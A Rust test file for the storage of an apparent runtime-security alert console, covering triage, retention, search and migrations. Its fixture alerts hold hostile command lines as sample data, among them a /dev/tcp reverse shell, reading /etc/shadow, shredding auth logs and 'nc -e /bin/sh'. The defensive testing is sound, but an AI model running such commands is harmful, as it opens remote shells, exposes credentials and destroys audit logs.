//! Triage and the console's queries, on SQLite and on PostgreSQL (when `FA_TEST_POSTGRES_URL`
//! is set).

use fa_model::{Priority, VerdictKind};
use fa_store::*;

mod backends;
use backends::TestDb;

on_both_backends!(
    triage_changes_are_stored_audited_and_survive_reopening,
    muted_clusters_are_the_acknowledged_and_false_positive_ones,
    retention_deletes_triage_with_its_cluster_and_keeps_the_others,
    incident_filters_and_keyset_pages,
    cluster_filters_search_and_overview,
    overview_counts_follow_verdicts_written_later_and_retention,
    search_pages_filters_and_short_text,
);

const MIN: i64 = 60_000_000_000;

struct A<'a> {
    uuid: &'a str,
    rule: &'a str,
    prio: Priority,
    ns: &'a str,
    t: Nanos,
    verdict: VerdictKind,
    fp: &'a str,
    incident: &'a str,
    cmdline: &'a str,
}

fn analysed(a: &A<'_>, id: i64) -> Analysis {
    let body = serde_json::json!({
        "uuid": a.uuid, "rule": a.rule, "priority": a.prio.to_string(),
        "output": format!("{} (command={})", a.rule, a.cmdline),
        "output_fields": {"proc.cmdline": a.cmdline, "k8s.ns.name": a.ns},
    })
    .to_string();
    Analysis {
        alert_id: id,
        row: Some(NewAlert {
            uuid: a.uuid.into(),
            received_at: a.t,
            time: Some(a.t),
            rule: a.rule.into(),
            priority: Some(a.prio),
            source: Some("syscall".into()),
            hostname: Some("node-1".into()),
            namespace: Some(a.ns.into()),
            body,
        }),
        verdict: a.verdict,
        score: 1.0,
        verdict_json: "{}".into(),
        fingerprint: a.fp.into(),
        incident_id: Some(a.incident.into()),
        report_json: None,
        cluster: ClusterUpdate {
            rule: a.rule.into(),
            time: a.t,
            verdict: a.verdict,
            uuid: a.uuid.into(),
            location: format!("pod:{}/web", a.ns),
            activity: a.cmdline.into(),
        },
        analyzed_at: a.t,
    }
}

fn incident(
    id: &str,
    entity: &str,
    t: Nanos,
    v: VerdictKind,
    rule: &str,
    tactic: &str,
) -> IncidentRow {
    IncidentRow {
        id: id.into(),
        entity: entity.into(),
        first_seen: Some(t),
        last_seen: Some(t),
        alert_count: 1,
        verdict: v,
        updated_at: t,
        body: serde_json::json!({
            "id": id, "entity": entity, "tactics": [tactic],
            "entities": ["host:node-1"],
            "timeline": [{"rule": rule}],
        })
        .to_string(),
    }
}

/// Two incidents, two clusters, three alerts, an hour ago.
fn fixture(s: &mut dyn Store, now: Nanos) {
    let t = now - 60 * MIN;
    let rows = [
        A {
            uuid: "u1",
            rule: "Terminal shell in container",
            prio: Priority::Notice,
            ns: "shop",
            t,
            verdict: VerdictKind::Malicious,
            fp: "fp-shell",
            incident: "inc-a",
            cmdline: "bash -i >& /dev/tcp/10.0.0.9/4444",
        },
        A {
            uuid: "u2",
            rule: "Read sensitive file untrusted",
            prio: Priority::Warning,
            ns: "shop",
            t: t + MIN,
            verdict: VerdictKind::Suspicious,
            fp: "fp-read",
            incident: "inc-a",
            cmdline: "cat /etc/shadow",
        },
        A {
            uuid: "u3",
            rule: "Read sensitive file untrusted",
            prio: Priority::Warning,
            ns: "kube-system",
            t: t + 2 * MIN,
            verdict: VerdictKind::Benign,
            fp: "fp-benign",
            incident: "inc-b",
            cmdline: "calico-node -felix",
        },
    ];
    let analyses: Vec<Analysis> = rows
        .iter()
        .enumerate()
        .map(|(i, a)| analysed(a, i as i64 + 1))
        .collect();
    s.write(&WriteBatch {
        analyses,
        incidents: vec![
            incident(
                "inc-a",
                "pod:shop/web",
                t + MIN,
                VerdictKind::Malicious,
                "Terminal shell in container",
                "execution",
            ),
            incident(
                "inc-b",
                "pod:kube-system/calico",
                t + 2 * MIN,
                VerdictKind::Benign,
                "Read sensitive file untrusted",
                "credential-access",
            ),
        ],
        ..Default::default()
    })
    .unwrap();
}

fn now() -> Nanos {
    to_nanos(chrono::Utc::now())
}

fn triage_changes_are_stored_audited_and_survive_reopening(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    fixture(s.as_mut(), n);
    assert_eq!(s.triage_get(TriageKind::Incident, "inc-a").unwrap(), None);
    let change = TriageChange {
        status: Some(TriageStatus::Acknowledged),
        assignee: Some(Some("alice".into())),
        note: Some("looking at the reverse shell".into()),
    };
    let t = s
        .triage_update(TriageKind::Incident, "inc-a", &change, "bob", n)
        .unwrap()
        .unwrap();
    assert_eq!(t.status, TriageStatus::Acknowledged);
    assert_eq!(t.assignee.as_deref(), Some("alice"));
    assert_eq!(t.updated_by.as_deref(), Some("bob"));
    // Nothing to change: no audit entry.
    let same = TriageChange {
        status: Some(TriageStatus::Acknowledged),
        ..Default::default()
    };
    s.triage_update(TriageKind::Incident, "inc-a", &same, "carol", n + 1)
        .unwrap();
    // An unknown item is not created.
    assert_eq!(
        s.triage_update(TriageKind::Incident, "nope", &change, "bob", n)
            .unwrap(),
        None
    );
    drop(s);
    let s = db.open();
    let t = s
        .triage_get(TriageKind::Incident, "inc-a")
        .unwrap()
        .unwrap();
    assert_eq!(t.status, TriageStatus::Acknowledged);
    assert_eq!(t.updated_by.as_deref(), Some("bob"));
    let audit = s
        .triage_audit(TriageKind::Incident, "inc-a", &PageRequest::default())
        .unwrap();
    let fields: Vec<(&str, Option<&str>, Option<&str>)> = audit
        .items
        .iter()
        .map(|a| {
            (
                a.field.as_str(),
                a.old_value.as_deref(),
                a.new_value.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        fields,
        vec![
            ("note", None, Some("looking at the reverse shell")),
            ("assignee", None, Some("alice")),
            ("status", Some("new"), Some("acknowledged")),
        ]
    );
    assert!(audit.items.iter().all(|a| a.actor == "bob"));
    // Keyset pages of one.
    let p1 = s
        .triage_audit(
            TriageKind::Incident,
            "inc-a",
            &PageRequest {
                limit: 1,
                cursor: None,
            },
        )
        .unwrap();
    let p2 = s
        .triage_audit(
            TriageKind::Incident,
            "inc-a",
            &PageRequest {
                limit: 1,
                cursor: p1.next_cursor.clone(),
            },
        )
        .unwrap();
    assert_eq!(p1.items[0].field, "note");
    assert_eq!(p2.items[0].field, "assignee");
}

fn muted_clusters_are_the_acknowledged_and_false_positive_ones(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    fixture(s.as_mut(), n);
    for (fp, st) in [
        ("fp-shell", TriageStatus::Resolved),
        ("fp-read", TriageStatus::Acknowledged),
        ("fp-benign", TriageStatus::FalsePositive),
    ] {
        let c = TriageChange {
            status: Some(st),
            ..Default::default()
        };
        s.triage_update(TriageKind::Cluster, fp, &c, "alice", n)
            .unwrap()
            .unwrap();
    }
    let mut muted = s.muted_clusters().unwrap();
    muted.sort();
    assert_eq!(muted, vec!["fp-benign".to_string(), "fp-read".to_string()]);
    let m = s
        .triage_map(
            TriageKind::Cluster,
            &["fp-shell".to_string(), "fp-x".to_string()],
        )
        .unwrap();
    assert_eq!(m.len(), 1);
    assert_eq!(m["fp-shell"].status, TriageStatus::Resolved);
}

fn retention_deletes_triage_with_its_cluster_and_keeps_the_others(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    fixture(s.as_mut(), n);
    let c = TriageChange {
        status: Some(TriageStatus::FalsePositive),
        ..Default::default()
    };
    s.triage_update(TriageKind::Cluster, "fp-benign", &c, "a", n)
        .unwrap();
    // Nothing is old enough: triage stays.
    let keep = RetentionPolicy {
        max_age: Some(chrono::Duration::days(1)),
        ..Default::default()
    };
    s.apply_retention(&keep, n, 100).unwrap();
    assert!(s
        .triage_get(TriageKind::Cluster, "fp-benign")
        .unwrap()
        .is_some());
    let drop_all = RetentionPolicy {
        max_age: Some(chrono::Duration::minutes(1)),
        ..Default::default()
    };
    while s.apply_retention(&drop_all, n, 100).unwrap().more {}
    assert_eq!(s.get_cluster("fp-benign").unwrap(), None);
    assert_eq!(
        s.triage_get(TriageKind::Cluster, "fp-benign").unwrap(),
        None
    );
    assert!(s
        .triage_audit(TriageKind::Cluster, "fp-benign", &PageRequest::default())
        .unwrap()
        .items
        .is_empty());
}

fn incident_filters_and_keyset_pages(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    fixture(s.as_mut(), n);
    let ids = |q: IncidentQuery| -> Vec<String> {
        s.console_incidents(&q, &PageRequest::default())
            .unwrap()
            .items
            .into_iter()
            .map(|i| i.id)
            .collect()
    };
    assert_eq!(ids(IncidentQuery::default()), vec!["inc-b", "inc-a"]);
    let q = |f: fn(&mut IncidentQuery)| {
        let mut q = IncidentQuery::default();
        f(&mut q);
        q
    };
    assert_eq!(
        ids(q(|q| q.verdict = Some(VerdictKind::Malicious))),
        vec!["inc-a"]
    );
    assert_eq!(
        ids(q(|q| q.tactic = Some("execution".into()))),
        vec!["inc-a"]
    );
    assert_eq!(
        ids(q(|q| q.rule = Some("Read sensitive file untrusted".into()))),
        vec!["inc-b"]
    );
    assert_eq!(ids(q(|q| q.namespace = Some("shop".into()))), vec!["inc-a"]);
    assert_eq!(
        ids(q(|q| q.namespace = Some("kube-system".into()))),
        vec!["inc-b"]
    );
    assert_eq!(
        ids(q(|q| q.hostname = Some("node-1".into()))),
        vec!["inc-b", "inc-a"]
    );
    assert!(ids(q(|q| q.hostname = Some("node-2".into()))).is_empty());
    assert!(ids(q(|q| q.status = Some(TriageStatus::Resolved))).is_empty());
    assert_eq!(ids(q(|q| q.status = Some(TriageStatus::New))).len(), 2);
    let p1 = s
        .console_incidents(
            &IncidentQuery::default(),
            &PageRequest {
                limit: 1,
                cursor: None,
            },
        )
        .unwrap();
    let p2 = s
        .console_incidents(
            &IncidentQuery::default(),
            &PageRequest {
                limit: 1,
                cursor: p1.next_cursor.clone(),
            },
        )
        .unwrap();
    assert_eq!(p1.items[0].id, "inc-b");
    assert_eq!(p2.items[0].id, "inc-a");
    assert_eq!(p2.next_cursor, None);
}

fn cluster_filters_search_and_overview(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    fixture(s.as_mut(), n);
    let fps = |q: &ClusterQuery| -> Vec<String> {
        s.console_clusters(q, &PageRequest::default())
            .unwrap()
            .items
            .into_iter()
            .map(|c| c.fingerprint)
            .collect()
    };
    assert_eq!(
        fps(&ClusterQuery::default()),
        vec!["fp-benign", "fp-read", "fp-shell"]
    );
    assert_eq!(
        fps(&ClusterQuery {
            text: Some("/ETC/SHADOW".into()),
            ..Default::default()
        }),
        vec!["fp-read"]
    );
    let p1 = s
        .console_clusters(
            &ClusterQuery::default(),
            &PageRequest {
                limit: 2,
                cursor: None,
            },
        )
        .unwrap();
    let p2 = s
        .console_clusters(
            &ClusterQuery::default(),
            &PageRequest {
                limit: 2,
                cursor: p1.next_cursor.clone(),
            },
        )
        .unwrap();
    assert_eq!(p1.items.len(), 2);
    assert_eq!(p2.items[0].fingerprint, "fp-shell");

    let hits = s
        .search_alerts(
            &AlertFilter::default(),
            "dev/TCP",
            &PageRequest::default(),
            10_000,
        )
        .unwrap();
    assert_eq!(
        hits.items
            .iter()
            .map(|a| a.uuid.as_str())
            .collect::<Vec<_>>(),
        vec!["u1"]
    );
    // A scan bound of one alert per page: each page looks at one alert at most, and the
    // cursors lead to the one match.
    let suspicious = AlertFilter {
        verdict: Some(VerdictKind::Suspicious),
        ..Default::default()
    };
    let mut found = Vec::new();
    let mut cursor = None;
    for _ in 0..10 {
        let p = s
            .search_alerts(
                &suspicious,
                "SENSITIVE",
                &PageRequest { limit: 50, cursor },
                1,
            )
            .unwrap();
        assert!(p.scanned <= 1);
        found.extend(p.items.into_iter().map(|a| a.uuid));
        cursor = p.next_cursor;
        if cursor.is_none() {
            break;
        }
    }
    assert_eq!(found, vec!["u2"]);
    assert!(cursor.is_none());
    let o = s.console_overview(n - 120 * MIN, n, MIN, 10).unwrap();
    assert_eq!(o.buckets.iter().map(|b| b.count).sum::<u64>(), 3);
    assert_eq!(o.buckets.len(), 3);
    assert_eq!(o.top_rules[0], ("Read sensitive file untrusted".into(), 2));
    let mut open_inc = o.open_incidents.clone();
    open_inc.sort_by_key(|(v, _)| *v);
    assert_eq!(
        open_inc,
        vec![(VerdictKind::Benign, 1), (VerdictKind::Malicious, 1)]
    );
    assert_eq!(o.noisy_benign.len(), 1);
    assert_eq!(o.noisy_benign[0].fingerprint, "fp-benign");
    // Outside the window: nothing.
    let o = s.console_overview(n - MIN, n, MIN, 10).unwrap();
    assert!(o.buckets.is_empty() && o.top_rules.is_empty());
}

fn uuids(p: &SearchPage<AlertRow>) -> Vec<&str> {
    p.items.iter().map(|a| a.uuid.as_str()).collect()
}

fn search(
    s: &dyn Store,
    f: &AlertFilter,
    text: &str,
    limit: usize,
    cursor: Option<String>,
) -> SearchPage<AlertRow> {
    s.search_alerts(f, text, &PageRequest { limit, cursor }, 10_000)
        .unwrap()
}

fn search_pages_filters_and_short_text(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    fixture(s.as_mut(), n);
    // The same answers with nothing, part and all of the alerts in the search index.
    for round in 0..3 {
        search_checks(s.as_ref());
        match round {
            0 => {
                s.index_pending(1).unwrap();
            }
            _ => while s.index_pending(2).unwrap() > 0 {},
        }
    }
    // An alert stored below what the index holds (out of id order) is indexed with it.
    let mut late = analysed(
        &A {
            uuid: "u0",
            rule: "Terminal shell in container",
            prio: Priority::Notice,
            ns: "shop",
            t: n - 90 * MIN,
            verdict: VerdictKind::Suspicious,
            fp: "fp-zebra",
            incident: "inc-z",
            cmdline: "zebra --stripes",
        },
        0,
    );
    late.alert_id = 0;
    s.write(&WriteBatch {
        analyses: vec![late],
        ..Default::default()
    })
    .unwrap();
    assert_eq!(
        uuids(&search(
            s.as_ref(),
            &AlertFilter::default(),
            "zebra",
            50,
            None
        )),
        vec!["u0"]
    );
}

fn search_checks(s: &dyn Store) {
    let all = AlertFilter::default();
    assert_eq!(uuids(&search(s, &all, "/etc/shadow", 50, None)), vec!["u2"]);
    // Case-insensitive both ways.
    assert_eq!(uuids(&search(s, &all, "CALICO", 50, None)), vec!["u3"]);
    // Shorter than a trigram: the bodies are read, same answer.
    assert_eq!(uuids(&search(s, &all, "SH", 50, None)), vec!["u2", "u1"]);
    assert!(search(s, &all, "zz", 50, None).items.is_empty());
    // Every trigram of the text (`/44`, `444`) is in u1's message, but not the text itself.
    assert!(search(s, &all, "/4444444", 50, None).items.is_empty());
    // Keyset pages of one through the matches, newest first.
    let p1 = search(s, &all, "read sensitive", 1, None);
    let p2 = search(s, &all, "read sensitive", 1, p1.next_cursor.clone());
    let p3 = search(s, &all, "read sensitive", 1, p2.next_cursor.clone());
    assert_eq!((uuids(&p1), uuids(&p2)), (vec!["u3"], vec!["u2"]));
    assert!(p3.items.is_empty() && p3.next_cursor.is_none());
    // With the alert filters.
    let shop = AlertFilter {
        namespace: Some("shop".into()),
        ..Default::default()
    };
    assert_eq!(uuids(&search(s, &shop, "read", 50, None)), vec!["u2"]);
    // Nothing found: no cursor.
    let none = search(s, &all, "no such text", 50, None);
    assert!(none.items.is_empty() && none.next_cursor.is_none());
}

fn total(o: &Overview) -> u64 {
    o.buckets.iter().map(|b| b.count).sum()
}

fn overview_counts_follow_verdicts_written_later_and_retention(db: &TestDb) {
    let mut s = db.open();
    let n = now();
    let t = n - 60 * MIN;
    let new = |uuid: &str| NewAlert {
        uuid: uuid.into(),
        received_at: t,
        time: Some(t),
        rule: "Clear Log Activities".into(),
        priority: Some(Priority::Warning),
        source: Some("syscall".into()),
        hostname: Some("node-9".into()),
        namespace: Some("ns-x".into()),
        body: format!(r#"{{"uuid":"{uuid}","output":"log cleared by shred"}}"#),
    };
    // Stored before their analysis (verdict not known yet).
    let ids: Vec<i64> = s
        .write(&WriteBatch {
            alerts: vec![new("w1"), new("w2")],
            ..Default::default()
        })
        .unwrap()
        .into_iter()
        .map(|i| match i {
            Inserted::New(id) => id,
            other => panic!("not stored: {other:?}"),
        })
        .collect();
    let o = s.console_overview(n - 120 * MIN, n, MIN, 10).unwrap();
    assert_eq!(total(&o), 2);
    assert!(o.buckets.iter().all(|b| b.verdict.is_none()));
    assert_eq!(o.top_rules, vec![("Clear Log Activities".to_string(), 2)]);
    assert_eq!(
        uuids(&search(
            s.as_ref(),
            &AlertFilter::default(),
            "shred",
            50,
            None
        )),
        vec!["w2", "w1"]
    );
    // The first is analysed now: its count moves to its verdict.
    let mut a = analysed(
        &A {
            uuid: "w1",
            rule: "Clear Log Activities",
            prio: Priority::Warning,
            ns: "ns-x",
            t,
            verdict: VerdictKind::Malicious,
            fp: "fp-log",
            incident: "inc-x",
            cmdline: "shred -u /var/log/auth.log",
        },
        ids[0],
    );
    a.row = None;
    s.write(&WriteBatch {
        analyses: vec![a.clone()],
        incidents: vec![incident(
            "inc-x",
            "container:abc",
            t,
            VerdictKind::Malicious,
            "Clear Log Activities",
            "defense-evasion",
        )],
        ..Default::default()
    })
    .unwrap();
    // A repeated analysis changes nothing.
    s.write(&WriteBatch {
        analyses: vec![a],
        ..Default::default()
    })
    .unwrap();
    let o = s.console_overview(n - 120 * MIN, n, MIN, 10).unwrap();
    let mut by_verdict: Vec<(Option<VerdictKind>, u64)> =
        o.buckets.iter().map(|b| (b.verdict, b.count)).collect();
    by_verdict.sort();
    assert_eq!(
        by_verdict,
        vec![(None, 1), (Some(VerdictKind::Malicious), 1)]
    );
    // The incident is found by its alerts' namespace (its entity names none).
    let inc = s
        .console_incidents(
            &IncidentQuery {
                namespace: Some("ns-x".into()),
                ..Default::default()
            },
            &PageRequest::default(),
        )
        .unwrap();
    assert_eq!(inc.items.len(), 1);
    assert_eq!(inc.items[0].id, "inc-x");
    // Retention deletes the analysed alert (the other is not analysed): its counts go too.
    let policy = RetentionPolicy {
        max_age: Some(chrono::Duration::minutes(1)),
        ..Default::default()
    };
    while s.apply_retention(&policy, n, 100).unwrap().more {}
    let o = s.console_overview(n - 120 * MIN, n, MIN, 10).unwrap();
    assert_eq!(total(&o), 1);
    assert_eq!(o.buckets[0].verdict, None);
    assert_eq!(o.top_rules, vec![("Clear Log Activities".to_string(), 1)]);
    assert_eq!(
        uuids(&search(
            s.as_ref(),
            &AlertFilter::default(),
            "shred",
            50,
            None
        )),
        vec!["w2"]
    );
}

/// Two alerts stored before the console's tables (SQLite schema 6, PostgreSQL schema 1): one
/// analysed (malicious, incident `inc-old` in namespace `legacy`), one not.
const OLD_ALERTS: [(i64, &str, Option<&str>, Option<&str>); 2] = [
    (1, "old-1", Some("malicious"), Some("inc-old")),
    (2, "old-2", None, None),
];

fn old_body(uuid: &str) -> String {
    format!(
        r#"{{"uuid":"{uuid}","output":"old alert ran nc -e /bin/sh","output_fields":{{"proc.cmdline":"nc -e /bin/sh"}}}}"#
    )
}

/// What a migrated store must answer about [`OLD_ALERTS`] at `t`.
fn check_migrated(s: &mut dyn Store, t: Nanos) {
    s.write(&WriteBatch {
        incidents: vec![incident(
            "inc-old",
            "container:old",
            t,
            VerdictKind::Malicious,
            "R",
            "execution",
        )],
        ..Default::default()
    })
    .unwrap();
    let o = s.console_overview(t - MIN, t + MIN, MIN, 10).unwrap();
    let mut by_verdict: Vec<(Option<VerdictKind>, u64)> =
        o.buckets.iter().map(|b| (b.verdict, b.count)).collect();
    by_verdict.sort();
    assert_eq!(
        by_verdict,
        vec![(None, 1), (Some(VerdictKind::Malicious), 1)]
    );
    assert_eq!(o.top_rules, vec![("R".to_string(), 2)]);
    let hits = search(s, &AlertFilter::default(), "NC -E", 50, None);
    assert_eq!(uuids(&hits), vec!["old-2", "old-1"]);
    let inc = s
        .console_incidents(
            &IncidentQuery {
                namespace: Some("legacy".into()),
                ..Default::default()
            },
            &PageRequest::default(),
        )
        .unwrap();
    assert_eq!(inc.items.len(), 1);
}

#[test]
fn sqlite_alerts_stored_before_schema_7_are_counted_and_searchable() {
    let d = tempfile::tempdir().unwrap();
    let path = d.path().join("db.sqlite");
    let t = now() - 30 * MIN;
    {
        let c = rusqlite::Connection::open(&path).unwrap();
        c.execute_batch(
            "CREATE TABLE schema_version (version INTEGER PRIMARY KEY, applied_at INTEGER NOT NULL)",
        )
        .unwrap();
        for (v, sql) in MIGRATIONS.iter().filter(|(v, _)| *v <= 6) {
            c.execute_batch(sql).unwrap();
            c.execute("INSERT INTO schema_version VALUES (?1, 0)", [v])
                .unwrap();
        }
        for (id, uuid, verdict, inc) in OLD_ALERTS {
            c.execute(
                "INSERT INTO alerts (id, uuid, received_at, ts, rule, priority, namespace, body,
                                     analyzed, verdict, incident_id, uuid_key, rule_key)
                 VALUES (?1, ?2, ?3, ?3, 'R', 4, 'legacy', ?4, ?5, ?6, ?7, ?8, ?9)",
                rusqlite::params![
                    id,
                    uuid,
                    t,
                    old_body(uuid),
                    verdict.is_some(),
                    verdict,
                    inc,
                    text_key(uuid),
                    text_key("R")
                ],
            )
            .unwrap();
        }
    }
    let mut s = SqliteStore::open(&path, &SqliteOptions::default()).unwrap();
    assert_eq!(s.schema_version().unwrap(), MIGRATIONS.last().unwrap().0);
    check_migrated(&mut s, t);
}

#[test]
fn postgres_alerts_stored_before_schema_2_are_counted_and_searchable() {
    let Some(p) = backends::PgSchema::create("postgres_alerts_stored_before_schema_2") else {
        return;
    };
    let t = now() - 30 * MIN;
    {
        let mut c = p.raw();
        c.batch_execute(PG_MIGRATIONS[0].1).unwrap();
        c.batch_execute(
            "CREATE TABLE schema_migrations (version BIGINT PRIMARY KEY, applied_at BIGINT NOT NULL);
             INSERT INTO schema_migrations VALUES (1, 0);",
        )
        .unwrap();
        for (id, uuid, verdict, inc) in OLD_ALERTS {
            c.execute(
                "INSERT INTO alerts (id, uuid, received_at, ts, rule, priority, namespace, body,
                                     analyzed, verdict, incident_id)
                 VALUES ($1, $2, $3, $3, 'R', 4, 'legacy', $4, $5, $6, $7)",
                &[
                    &id,
                    &uuid,
                    &t,
                    &old_body(uuid),
                    &verdict.is_some(),
                    &verdict,
                    &inc,
                ],
            )
            .unwrap();
        }
    }
    let mut s = PgStore::open(&p.url, &PgOptions::default()).unwrap();
    assert_eq!(s.schema_version().unwrap(), PG_MIGRATIONS.last().unwrap().0);
    check_migrated(&mut s, t);
}
